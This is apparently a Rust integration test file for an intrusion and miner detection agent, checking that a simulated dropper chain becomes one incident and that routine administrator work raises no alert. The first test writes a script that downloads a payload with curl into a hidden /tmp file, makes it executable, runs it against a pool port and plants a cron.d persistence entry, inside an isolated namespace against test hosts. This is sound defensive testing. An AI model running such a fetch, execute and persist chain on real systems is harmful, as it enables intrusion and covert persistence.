//! An intrusion is reported as one incident: a process was created, connected out, and modified the host.

use std::{fs, time::Instant};

use minerwatch_tests::{Scratch, agent::at, executable, namespace::Pair};
use serde_json::Value;

use crate::{SOON, machine, start_agent};

fn is_alert(object: &Value) -> bool {
    at(object, "event.kind") == "alert"
}

#[test]
fn a_dropper_is_one_incident_with_its_chain() {
    let Some(_machine) = machine("a_dropper_is_one_incident_with_its_chain") else { return };
    let scratch = Scratch::new();
    let pair = Pair::new(21);
    let share = scratch.join("share");
    fs::create_dir(&share).expect("a directory can be made");
    fs::copy(executable("simulator"), format!("{share}/payload")).expect("the payload can be copied");
    let address = &pair.server.address;
    let _web = pair.server.serve(8000, "python3", &["-m", "http.server", "8000", "--directory", &share]);
    let _pool = pair.server.serve(9000, "python3", &[
        "-c",
        "import socket\ns=socket.create_server(('0.0.0.0',9000))\nwhile True:\n c,_=s.accept(); c.recv(1); c.close()",
    ]);
    let dropped = format!("/tmp/.{}", minerwatch_tests::unique("dropped"));
    let script = scratch.join("intrusion.sh");
    // The script mounts an empty crontab directory in its own mount namespace, so that the host stays clean.
    fs::write(
        &script,
        format!(
            "mount -t tmpfs none /etc/cron.d\n\
             curl -s -o {dropped} http://{address}:8000/payload\n\
             chmod +x {dropped}\n\
             {dropped} infect {address}:9000 /etc/cron.d/sync\n\
             rm {dropped}\n"
        ),
    )
    .expect("a script can be written");

    let agent = start_agent(&scratch, "");
    let started = Instant::now();
    let status = pair.victim.command("unshare", &["--mount", "sh", &script]).status().expect("it starts");
    assert!(status.success());
    let alert = agent.wait_for("alert", SOON, |object| {
        is_alert(object) && matches!(at(object, "minerwatch.verdict").as_str(), Some("suspected" | "mining"))
    });
    println!(
        "alert after {:?} from the start of the intrusion; {} ms after the deciding event",
        started.elapsed(),
        at(&alert, "minerwatch.latency_ms")
    );
    assert_eq!(at(&alert, "event.action"), "incident-opened", "{alert:#}");
    assert_eq!(at(&alert, "minerwatch.reason"), "new-suspect");
    // The program lies in a hidden place and was fetched from a bare address, so the alert does not wait until it stays.
    // What follows joins an update.
    let alert = agent.wait_for("an update", SOON, |object| {
        is_alert(object)
            && at(object, "message").as_str().is_some_and(|message| message.contains("/etc/cron.d/sync"))
    });
    assert_eq!(at(&alert, "event.action"), "incident-updated", "{alert:#}");
    assert_eq!(alert["minerwatch"]["persistence"], serde_json::json!(["/etc/cron.d/sync"]));
    assert_eq!(alert["minerwatch"]["lost"].as_object().map(serde_json::Map::len), Some(0));

    let chain = alert["minerwatch"]["chain"].as_array().expect("a chain");
    let position = |kind: &str, object: &str| {
        chain
            .iter()
            .position(|edge| {
                edge["kind"] == kind && edge["object"].as_str().is_some_and(|text| text.contains(object))
            })
            .unwrap_or_else(|| panic!("no {kind} of {object} in {chain:#?}"))
    };
    let order = [
        position("create", "intrusion.sh"),
        position("create", "curl"),
        position("connect", &format!("{address}:8000")),
        position("drop", &dropped),
        position("modify", &dropped),
        position("create", &format!("{dropped} infect")),
        position("connect", &format!("{address}:9000")),
        position("persist", "/etc/cron.d/sync"),
    ];
    assert!(order.is_sorted(), "the edges are in order of time: {chain:#?}");

    let incidents: std::collections::BTreeSet<String> = agent
        .stop()
        .iter()
        .filter(|object| is_alert(object))
        .filter_map(|object| at(object, "minerwatch.incident.id").as_str().map(str::to_owned))
        .collect();
    assert_eq!(incidents.len(), 1, "one intrusion, one incident: {incidents:?}");
}

#[test]
fn an_administrators_work_raises_no_alert() {
    let Some(_machine) = machine("an_administrators_work_raises_no_alert") else { return };
    let scratch = Scratch::new();
    let pair = Pair::new(22);
    let share = scratch.join("share");
    fs::create_dir(&share).expect("a directory can be made");
    fs::write(format!("{share}/data"), "x".repeat(1000)).expect("a file can be written");
    let _web = pair.server.serve(8000, "python3", &["-m", "http.server", "8000", "--directory", &share]);
    let address = &pair.server.address;
    let script = scratch.join("work.sh");
    fs::write(
        &script,
        format!(
            "mount -t tmpfs none /etc/cron.d\n\
             curl -s -o {0}/data http://{address}:8000/data\n\
             sort {0}/data > {0}/sorted\n\
             cp {0}/sorted /etc/cron.d/backup\n\
             grep -r stratum+tcp {0} || true\n\
             tar -cf {0}/backup.tar -C {0} data\n",
            scratch.path().display()
        ),
    )
    .expect("a script can be written");
    let agent = start_agent(&scratch, "");
    let status = pair.victim.command("unshare", &["--mount", "sh", &script]).status().expect("it starts");
    assert!(status.success());
    let alerts: Vec<Value> = agent.stop().into_iter().filter(is_alert).collect();
    assert!(alerts.is_empty(), "{alerts:#?}");
}
